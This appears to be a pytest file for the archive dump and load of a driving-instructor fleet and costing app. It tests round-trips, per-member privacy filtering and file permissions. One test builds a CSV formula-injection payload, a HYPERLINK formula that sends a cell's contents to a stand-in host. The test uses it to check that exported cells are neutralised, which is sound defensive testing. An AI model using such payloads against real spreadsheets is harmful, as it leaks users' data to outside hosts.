"""What a dump holds: the standing book in a stable form, or what is one member's own."""

import csv
import io
import stat
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from config.quantities import MILES
from costing.archive.dumping import dump
from costing.archive.loading import load
from costing.archive.packing import NotOurs, save
from costing.archive.tables import TABLES
from costing.models import CostEntry, Receipt, SettledDue
from fleet.actions import close_defect, confirm_repair, void_check, void_completion
from fleet.core.defects import Severity
from fleet.core.points import POINTS
from fleet.models import Car, Completion, Defect, DefectState, DueItem, Evidence, Photo
from instructors.models import Member
from tests.costing.archive_sample import SAMPLE, write_archive, zipped
from tests.factories import (
    AgreementFactory,
    CarFactory,
    CheckPointFactory,
    CompletionFactory,
    ConfirmationFactory,
    CooperativeFactory,
    CostEntryFactory,
    DefectFactory,
    DefectStepFactory,
    DueItemFactory,
    FillFactory,
    KeeperTimeFactory,
    MemberFactory,
    OdometerReadingFactory,
    TeachingRecordFactory,
    TreadReadingFactory,
    TyreMoveFactory,
    ValuationFactory,
    WalkaroundCheckFactory,
)
from tests.fleet.defects import done

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("today")]

VOIDED = {"voided_at": datetime(2026, 3, 3, tzinfo=UTC)}


def empty_the_book() -> None:
    for model in (Receipt, SettledDue):  # of entries, which some tables that come after theirs speak of too
        model.objects.all().delete()
    for table in reversed(TABLES):
        if table.model is Car:
            Photo.objects.all().delete()  # in no archive
        table.model._default_manager.all().delete()


def reloaded(files: dict[str, bytes], folder: Path) -> dict[str, bytes]:
    """The dump of an empty book into which ``files`` were loaded."""
    folder.mkdir(exist_ok=True)
    (folder / "archive.zip").write_bytes(zipped(files))
    empty_the_book()
    load(folder / "archive.zip")
    return dump().files


def rows_of(files: dict[str, bytes], name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files[name].decode(), newline="")))


# --- The whole book --------------------------------------------------------------------------------------


def test_the_sample_comes_out_as_it_went_in(tmp_path: Path) -> None:
    load(write_archive(tmp_path / "sample"))
    made = dump()
    assert {name: data.decode() for name, data in made.files.items()} == SAMPLE
    assert made.row_count["costs.csv"] == 4


@pytest.mark.parametrize("name", ["archive", "archive.zip"])
def test_dump_load_dump_gives_the_same_bytes(name: str, tmp_path: Path) -> None:
    load(write_archive(tmp_path / "sample"))
    first, second = tmp_path / "first" / name, tmp_path / "second" / name
    save(dump().files, first)
    empty_the_book()
    load(first)
    save(dump().files, second)
    pairs = [(first, second)] if first.is_file() else [(file, second / file.name) for file in first.iterdir()]
    assert pairs
    assert all(one.read_bytes() == other.read_bytes() for one, other in pairs)


def test_an_empty_book_is_ten_headers(tmp_path: Path) -> None:
    files = dump().files
    assert list(files) == [table.file for table in TABLES if not table.is_later]
    assert all(data.count(b"\n") == 1 for data in files.values())
    assert reloaded(files, tmp_path) == files


def test_what_was_voided_or_closed_is_left_out(tmp_path: Path, car: Car) -> None:
    CostEntryFactory.create(car=car, **VOIDED)
    FillFactory.create(car=car, **VOIDED)
    TeachingRecordFactory.create(car=car, **VOIDED)
    DueItemFactory.create(car=car, closed_on=date(2026, 3, 3))
    files = dump().files
    assert [rows_of(files, f"{name}.csv") for name in ("costs", "fills", "teaching", "dues")] == [
        [],
        [],
        [],
        [],
    ]
    assert reloaded(files, tmp_path) == files


def test_untidy_text_of_the_book_is_dumped_so_that_it_loads_the_same(tmp_path: Path, car: Car) -> None:
    for ref, note in enumerate(["  two\r\nlines\r", '"', "a,b", "=1+1", "'", "\ufeff", "a\u2028b\x0cc", "\r"]):
        CostEntryFactory.create(car=car, ref=f"{ref}", note=note)
    files = dump().files
    assert rows_of(files, "costs.csv")[0]["note"] == "two\nlines"
    assert reloaded(files, tmp_path) == files


FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"Open")'


def test_no_cell_that_a_member_wrote_begins_a_formula(tmp_path: Path) -> None:
    for number, start in enumerate(["=", "+", "-", "@", "＝", "'="]):  # noqa: RUF001 - full width, as some keyboards have it
        keeper = MemberFactory.create(name=start + FORMULA, email=f"{'=+-'[number % 3]}{number}@book.example")
        car = CarFactory.create(description=start + FORMULA, keeper=keeper)
        of_car = {"car": car, "ref": start + str(car.pk)}
        CostEntryFactory.create(**of_car, supplier=start + FORMULA, note=start + FORMULA, amount="-12.00")
        FillFactory.create(**of_car)
        TeachingRecordFactory.create(**of_car)
        DueItemFactory.create(car=car, note=start + FORMULA)
        WalkaroundCheckFactory.create(**of_car, points=[f"-{number}"], note=start + FORMULA)
        DefectFactory.create(**of_car, description=start + FORMULA)
        CheckPointFactory.create(name=f"-{number}", words=start + FORMULA, look_for=start + FORMULA)
    CooperativeFactory.create(name=FORMULA)
    files = dump().files
    cells = [cell for name in files for row in rows_of(files, name) for cell in row.values()]
    assert sum("HYPERLINK" in cell for cell in cells) > 50
    begins = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝"))]  # noqa: RUF001
    assert set(begins) == {"-12.00"}
    assert reloaded(files, tmp_path) == files


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=20)
@given(
    note=st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=30),
    amount=st.decimals(Decimal("-9999999.99"), Decimal("9999999.99"), places=2),
    minutes=st.integers(0, 100_000),
    quantity=st.decimals(Decimal("0.001"), Decimal("9999.999"), places=3),
    rate=st.decimals(0, Decimal("0.9999"), places=4),
)
def test_any_book_comes_back_the_same(
    db: None, tmp_path: Path, note: str, amount: Decimal, minutes: int, quantity: Decimal, rate: Decimal
) -> None:
    empty_the_book()
    car = CarFactory.create(description=note, keeper=MemberFactory.create(name=f"N{note}"))
    CooperativeFactory.create(depreciation_rate=rate)
    CostEntryFactory.create(car=car, amount=amount, note=note, supplier=note)
    FillFactory.create(car=car, quantity=quantity)
    TeachingRecordFactory.create(car=car, minutes=minutes)
    files = dump().files
    assert reloaded(files, tmp_path) == files
    assert CostEntry.objects.get().amount == amount


def test_a_rental_that_costs_nothing_needs_no_frequency(tmp_path: Path, car: Car) -> None:
    AgreementFactory.create(car=car, kind="contract_hire", payment=Decimal(0), payments=12, frequency="")
    files = dump().files
    assert reloaded(files, tmp_path) == files


def test_an_item_may_fall_due_beyond_what_an_odometer_shows(tmp_path: Path, car: Car) -> None:
    # Whoever wants to be reminded by the month alone may type an interval of all nines.
    item = DueItemFactory.create(car=car, kind="service", due_miles=MILES.most * 2, every_miles=MILES.most)
    CompletionFactory.create(due_item=item, was_due_miles=MILES.most * 2)
    files = dump().files
    assert reloaded(files, tmp_path) == files


def test_completions_of_items_done_for_good_on_one_day_come_back_as_they_were(tmp_path: Path, car: Car) -> None:
    day = date(2026, 2, 2)
    ended = [DueItemFactory.create(car=car, kind="other", closed_on=day) for _ in range(2)]
    standing = DueItemFactory.create(car=car, kind="other")
    for number, item in enumerate([*ended, standing]):
        CompletionFactory.create(due_item=item, done_on=day, note=f"errand {number}")
    files = dump().files
    rows = rows_of(files, "completions.csv")
    assert [(row["note"], row["number"], row["for_good"]) for row in rows] == [
        ("errand 0", "1", "true"),
        ("errand 1", "2", "true"),
        ("errand 2", "3", "false"),
    ]
    assert reloaded(files, tmp_path) == files
    assert DueItem.objects.filter(closed_on=day).count() == 2


def test_what_waits_for_a_second_member_waits_after_loading_too_and_can_be_answered(
    tmp_path: Path, car: Car, colleague: Member
) -> None:
    defect = DefectFactory.create(car=car, severity="dangerous")
    close_defect(by=car.keeper, defect=defect, **done(words="Bled"))
    ended = DefectFactory.create(car=car, severity="dangerous", description="Seat loose")
    close_defect(by=car.keeper, defect=ended, **done(words="Bolted", picture=b"jpeg"))
    files = dump().files
    said = [
        (row["words"], row["done_by"], row["state"], row["evidence"])
        for row in rows_of(files, "defect_steps.csv")
        if row["number"] == "2"
    ]
    assert sorted(said) == [
        ("Bled", "Wharf Lane Motors", "waiting", ""),
        ("Bolted", "Wharf Lane Motors", "closed", "photo"),
    ]
    assert reloaded(files, tmp_path) == files
    # The photo is in no archive: it stays closed, as its step says.
    assert Defect.objects.get(description="Seat loose").state == "closed"
    step = Defect.objects.get(state="waiting").steps.latest("pk")
    with pytest.raises(ValidationError, match="You recorded it yourself"):
        confirm_repair(by=step.by, step=step)
    confirm_repair(by=Member.objects.get(email=colleague.email), step=step)
    assert not Defect.objects.exclude(state="closed").exists()


def test_a_repair_recorded_anew_with_an_earlier_day_is_no_fault(tmp_path: Path, car: Car) -> None:
    defect = DefectFactory.create(car=car, severity="dangerous", found_on=date(2026, 3, 11))
    close_defect(by=car.keeper, defect=defect, **done(closed_on=date(2026, 3, 15)))
    close_defect(by=car.keeper, defect=defect, **done(closed_on=date(2026, 3, 13), picture=b"jpeg"))
    files = dump().files
    assert reloaded(files, tmp_path) == files


def test_voided_checks_and_completions_are_in_no_archive_and_their_defects_stay(tmp_path: Path, car: Car) -> None:
    check = WalkaroundCheckFactory.create(car=car)
    DefectFactory.create(car=car, walkaround=check)
    item = DueItemFactory.create(car=car)
    wrong = CompletionFactory.create(due_item=item, done_on=date(2026, 3, 2), note="Wrong car")
    whole = dump().files
    void_check(by=car.keeper, check=check, reason="Wrong car")
    void_completion(by=car.keeper, completion=wrong, reason="Wrong car")
    # What was voided does not come back with an archive from before.
    old = {name: whole[name].decode() for name in ("checks.csv", "completions.csv")}
    assert not any(load(write_archive(tmp_path / "old", old)).added.values())
    CompletionFactory.create(due_item=item, done_on=date(2026, 3, 2), note="Right")
    files = dump().files
    assert "checks.csv" not in files
    assert [row["check_ref"] for row in rows_of(files, "defects.csv")] == [""]
    assert [(row["note"], row["number"]) for row in rows_of(files, "completions.csv")] == [("Right", "1")]
    assert reloaded(files, tmp_path) == files


def test_a_later_file_that_is_empty_now_does_not_stay_in_the_folder(tmp_path: Path, car: Car) -> None:
    check = WalkaroundCheckFactory.create(car=car)
    save(dump().files, tmp_path)
    check.delete()
    assert save(dump().files, tmp_path) == []
    assert not (tmp_path / "checks.csv").exists()


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=20)
@given(
    depth=st.decimals(0, 15, places=1),
    points=st.lists(st.sampled_from(sorted(POINTS)), unique=True),
    took=st.tuples(st.booleans(), st.none() | st.integers(0, 7_200)),
    judged=st.lists(
        st.tuples(
            st.sampled_from(DefectState.values),
            st.sampled_from(list(Severity)),
            st.sampled_from(["", "Wharf Lane"]),
            st.sampled_from(["", *Evidence.values]),
        ).filter(lambda step: step[0] != "waiting" or step[1] == "dangerous"),
        max_size=12,
    ),
)
def test_any_condition_comes_back_the_same(
    db: None,
    tmp_path: Path,
    depth: Decimal,
    points: list[str],
    took: tuple[bool, int | None],
    judged: list[tuple[str, str, str, str]],
) -> None:
    empty_the_book()
    car = CarFactory.create()
    TreadReadingFactory.create(car=car, inner=depth)
    is_whole, seconds = took
    check = WalkaroundCheckFactory.create(car=car, points=points, is_whole=is_whole, seconds=seconds)
    defect = DefectFactory.create(car=car, walkaround=check)
    for state, severity, done_by, evidence in judged:
        becomes = "watch" if state == "waiting" and done_by else ""
        DefectStepFactory.create(
            defect=defect, state=state, severity=severity, done_by=done_by, evidence=evidence, becomes=becomes
        )
        defect.state, defect.severity = state, severity
    defect.closed_on = defect.found_on if defect.state == "closed" else None
    defect.save()
    files = dump().files
    assert reloaded(files, tmp_path) == files
    assert [step.state for step in Defect.objects.get().steps.all()] == ["open", *(state for state, *_ in judged)]


# --- Due items that follow from cover --------------------------------------------------------------------

INSURED = {"category": "insurance", "covers_from": date(2025, 4, 1), "covers_to": date(2026, 3, 31)}


def test_cover_without_a_due_item_is_dumped_as_loading_would_make_it(tmp_path: Path, car: Car) -> None:
    CostEntryFactory.create(car=car, **INSURED)
    files = dump().files
    assert [(row["kind"], row["due_on"]) for row in rows_of(files, "dues.csv")] == [("insurance", "2026-03-31")]
    assert reloaded(files, tmp_path) == files


def test_a_closed_item_does_not_come_back_with_its_cover(tmp_path: Path, car: Car) -> None:
    CostEntryFactory.create(car=car, **INSURED)
    DueItemFactory.create(car=car, kind="insurance", due_on=date(2026, 3, 31), closed_on=date(2026, 1, 1))
    files = dump().files
    assert [(row["kind"], row["due_on"]) for row in rows_of(files, "dues.csv")] == [("insurance", "")]
    assert reloaded(files, tmp_path) == files


# --- One member's own ------------------------------------------------------------------------------------


@pytest.fixture
def two_members(keeper: Member, colleague: Member, car: Car, colleague_car: Car) -> None:
    """Each of two members with a car, money and records, and traces of the one on the car of the other."""
    CooperativeFactory.create()
    for number, own in enumerate([car, colleague_car]):
        OdometerReadingFactory.create(car=own)
        CostEntryFactory.create(car=own, amount=Decimal("700.01") + number, note=f"of {number}", **INSURED)
        FillFactory.create(car=own, amount=Decimal("50.11") + number)
        TeachingRecordFactory.create(car=own, minutes=61 + number)
        DueItemFactory.create(car=own)
        DueItemFactory.create(car=None, member=own.keeper, kind="adi_registration")
        AgreementFactory.create(car=own, price=Decimal("11111.11") + number)
        ValuationFactory.create(car=own, value=Decimal("7777.77") + number)
    # The keeper's car was the colleague's before, and the other way round.
    CostEntryFactory.create(car=car, member=colleague, amount=Decimal("33.33"), category="vehicle_tax")
    CostEntryFactory.create(
        **INSURED | {"car": car, "member": colleague, "category": "breakdown_cover", "amount": Decimal("44.44")}
    )
    AgreementFactory.create(car=car, member=colleague, starts_on=date(2023, 1, 8), price=Decimal("22222.22"))
    ValuationFactory.create(car=car, member=colleague, valued_on=date(2023, 1, 8), value=Decimal("8888.88"))
    FillFactory.create(car=colleague_car, member=keeper, amount=Decimal("55.55"), filled_on=date(2024, 1, 9))


@pytest.mark.usefixtures("two_members")
def test_a_members_dump_holds_what_is_theirs(keeper: Member) -> None:
    made = dump(keeper)
    assert made.row_count == {
        "cooperative.csv": 1,
        "members.csv": 1,
        "cars.csv": 1,
        "odometer.csv": 1,
        "costs.csv": 1,
        "fills.csv": 2,
        "teaching.csv": 1,
        "dues.csv": 3,
        "agreements.csv": 1,
        "valuations.csv": 1,
    }
    assert {row["amount"] for row in rows_of(made.files, "fills.csv")} == {"50.11", "55.55"}
    assert [row["email"] for row in rows_of(made.files, "members.csv")] == [keeper.email]


@pytest.mark.usefixtures("two_members")
def test_a_members_dump_holds_no_address_and_no_money_of_another(keeper: Member, coordinator: Member) -> None:
    text = b"".join(dump(keeper).files.values()).decode()
    others = Member.objects.exclude(pk=keeper.pk).values_list("email", "name")
    money = ["700.01", "701.01", "51.11", "33.33", "44.44", "11112.11", "22222.22", "7778.77", "8888.88"]
    assert keeper.email in text
    assert money[0] in text
    assert not [word for pair in others for word in pair if word in text]
    assert not [amount for amount in money[1:] if amount in text]


@pytest.mark.usefixtures("two_members")
def test_a_coordinators_dump_holds_nobody_elses_records(coordinator: Member) -> None:
    counts = dump(coordinator).row_count
    assert {name for name, count in counts.items() if count} == {"cooperative.csv", "members.csv"}


@pytest.fixture
def handed_over(keeper: Member, colleague: Member, car: Car) -> Car:
    """The keeper's until 10 February 2026, the colleague's since, who is its registered keeper."""
    for keeper_of_days, from_on, to_on in (
        (keeper, date(2024, 1, 8), date(2026, 2, 10)),
        (colleague, date(2026, 2, 11), None),
    ):
        KeeperTimeFactory.create(car=car, keeper=keeper_of_days, from_on=from_on, to_on=to_on)
    car.keeper = car.registered_keeper = colleague
    car.save()
    for day, miles in ((date(2024, 1, 7), 1_001), (date(2024, 1, 8), 1_002), *LAST_AND_FIRST):
        OdometerReadingFactory.create(car=car, read_on=day, miles=miles)
    # The first of each is before their time; with the first keeper it counts, and nobody's after it does.
    for member, days in (
        (keeper, (date(2024, 1, 1), date(2026, 2, 10), date(2026, 2, 20))),
        (colleague, (date(2024, 2, 1), date(2026, 2, 11))),
    ):
        for day in days:
            AgreementFactory.create(car=car, member=member, starts_on=day)
            ValuationFactory.create(car=car, member=member, valued_on=day)
    return car


LAST_AND_FIRST = ((date(2026, 2, 10), 30_001), (date(2026, 2, 11), 30_002))


@pytest.mark.parametrize(
    ("who", "times", "miles", "days"),
    [
        # The day before a first day is another's, or nobody's.
        ("keeper", [("2024-01-08", "2026-02-10")], {"1002", "30001"}, ["2024-01-01", "2026-02-10"]),
        ("colleague", [("2026-02-11", "")], {"30002"}, ["2026-02-11"]),
    ],
)
def test_a_members_dump_holds_their_own_times_with_a_car_only(
    handed_over: Car,
    keeper: Member,
    colleague: Member,
    tmp_path: Path,
    who: str,
    times: list[tuple[str, str]],
    miles: set[str],
    days: list[str],
) -> None:
    member = {"keeper": keeper, "colleague": colleague}[who]
    files = dump(member).files
    [car] = rows_of(files, "cars.csv")
    assert (car["registration"], car["keeper_email"]) == ("QA51ABC", member.email)
    assert car["registered_keeper"] == (member.email if who == "colleague" else "")
    assert [(row["from_on"], row["to_on"]) for row in rows_of(files, "keepers.csv")] == times
    assert {row["member_email"] for row in rows_of(files, "keepers.csv")} == {member.email}
    assert {row["miles"] for row in rows_of(files, "odometer.csv")} == miles
    assert [row["starts_on"] for row in rows_of(files, "agreements.csv")] == days
    assert [row["valued_on"] for row in rows_of(files, "valuations.csv")] == days
    assert reloaded(files, tmp_path) == files


def test_cover_for_a_car_that_somebody_else_keeps_now_is_dumped_as_loading_would_make_it(
    handed_over: Car, keeper: Member, tmp_path: Path
) -> None:
    DueItemFactory.create(car=handed_over, kind="insurance", due_on=date(2027, 2, 10))
    CostEntryFactory.create(car=handed_over, member=keeper, **INSURED)
    files = dump(keeper).files
    [due] = rows_of(files, "dues.csv")
    assert due["due_on"] == f"{INSURED['covers_to']}"
    assert reloaded(files, tmp_path) == files


def test_a_members_dump_of_one_who_kept_their_car_loads_again(
    tmp_path: Path, keeper: Member, car: Car, colleague_car: Car
) -> None:
    CostEntryFactory.create(car=car, **INSURED)
    FillFactory.create(car=car)
    FillFactory.create(car=colleague_car)
    files = dump(keeper).files
    assert reloaded(files, tmp_path) == files
    assert Member.objects.count() == 1


@pytest.mark.usefixtures("two_members")
def test_the_condition_of_a_members_own_cars_is_theirs_without_the_names_of_who_else_saw_to_it(
    tmp_path: Path, keeper: Member, colleague: Member, car: Car, colleague_car: Car
) -> None:
    CheckPointFactory.create()
    for own in (car, colleague_car):
        for factory in (TreadReadingFactory, TyreMoveFactory, ConfirmationFactory):
            factory.create(car=own)
        for by in (keeper, colleague):
            check = WalkaroundCheckFactory.create(car=own, member=by, points=["lamps"])
            DefectFactory.create(car=own, reported_by=by, walkaround=check, description=f"on {own.registration}")
    for item in DueItem.objects.all():
        CompletionFactory.create(due_item=item, recorded_by=colleague, cost_ref="theirs")
    made = dump(keeper)
    counts = dict(list(made.row_count.items())[10:])
    assert counts == {
        "points.csv": 1,
        "checks.csv": 2,
        "defects.csv": 2,
        "defect_steps.csv": 2,
        "treads.csv": 1,
        "tyre_moves.csv": 1,
        "completions.csv": 2,
        "confirmations.csv": 1,
    }
    text = b"".join(made.files.values()).decode()
    assert colleague.email not in text
    assert f"on {colleague_car.registration}" not in text
    assert [row["member_email"] for row in rows_of(made.files, "checks.csv")] == [keeper.email, ""]
    (tmp_path / "own.zip").write_bytes(zipped(made.files))
    assert not any(load(tmp_path / "own.zip").added[name] for name in counts)  # the whole book knows every row


# --- Where it is written ---------------------------------------------------------------------------------

FILES = {"members.csv": b"email\n", "cars.csv": b"registration\n"}


def test_a_zip_has_the_same_bytes_whenever_it_is_made(today: date) -> None:
    with zipfile.ZipFile(io.BytesIO(zipped(FILES))) as archive:
        assert archive.namelist() == list(FILES)
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.testzip() is None


def test_what_is_written_is_for_its_owner_alone(tmp_path: Path) -> None:
    save(FILES, tmp_path / "folder")
    save(FILES, tmp_path / "a.zip")
    for path in (tmp_path / "folder" / "members.csv", tmp_path / "a.zip"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "folder").stat().st_mode) == 0o700


def test_an_earlier_archive_is_written_over(tmp_path: Path) -> None:
    for path in (tmp_path / "folder", tmp_path / "a.zip"):
        save({"members.csv": b"old\n", "cars.csv": b"old\n"}, path)
        assert save(FILES, path) == []
    assert (tmp_path / "folder" / "cars.csv").read_bytes() == b"registration\n"
    assert (tmp_path / "a.zip").read_bytes() == zipped(FILES)


def test_other_files_of_the_folder_are_left_alone_and_named(tmp_path: Path) -> None:
    (tmp_path / "letter.txt").write_text("dear")
    (tmp_path / ".hidden").write_text("")
    assert save(FILES, tmp_path) == ["letter.txt"]
    assert (tmp_path / "letter.txt").read_text() == "dear"


def write_other_zip(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("photo.jpg", b"x")


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("photos.zip", write_other_zip),
        ("words.zip", lambda path: path.write_bytes(b"not a zip")),
        ("folder.zip", Path.mkdir),
        ("file.csv", lambda path: path.write_bytes(b"x")),
    ],
)
def test_anything_that_is_no_archive_is_left_as_it_is(
    tmp_path: Path, name: str, make: Callable[[Path], object]
) -> None:
    make(tmp_path / name)
    before = (tmp_path / name).read_bytes() if (tmp_path / name).is_file() else None
    with pytest.raises(NotOurs):
        save(FILES, tmp_path / name)
    assert before is None or (tmp_path / name).read_bytes() == before
    assert [path.name for path in tmp_path.iterdir()] == [name]


def test_a_members_dump_names_no_cost_of_another_and_loads_beside_the_book(
    tmp_path: Path, keeper: Member, colleague: Member, car: Car
) -> None:
    item = DueItemFactory.create(car=car)
    own = CostEntryFactory.create(car=car, ref="mine-1")
    CostEntryFactory.create(car=car, member=colleague, ref="theirs-1")
    for done_on, ref in ((date(2025, 9, 22), "theirs-1"), (date(2025, 9, 23), own.ref)):
        CompletionFactory.create(due_item=item, recorded_by=keeper, done_on=done_on, cost_ref=ref)
    made = dump(keeper)
    assert b"theirs-1" not in b"".join(made.files.values())
    assert {row["cost_ref"] for row in rows_of(made.files, "completions.csv")} == {"mine-1", ""}
    # What is left out is left as the book has it.
    load(write_archive(tmp_path / "own", {name: data.decode() for name, data in made.files.items()}))
    assert set(Completion.objects.values_list("cost_ref", flat=True)) == {"mine-1", "theirs-1"}
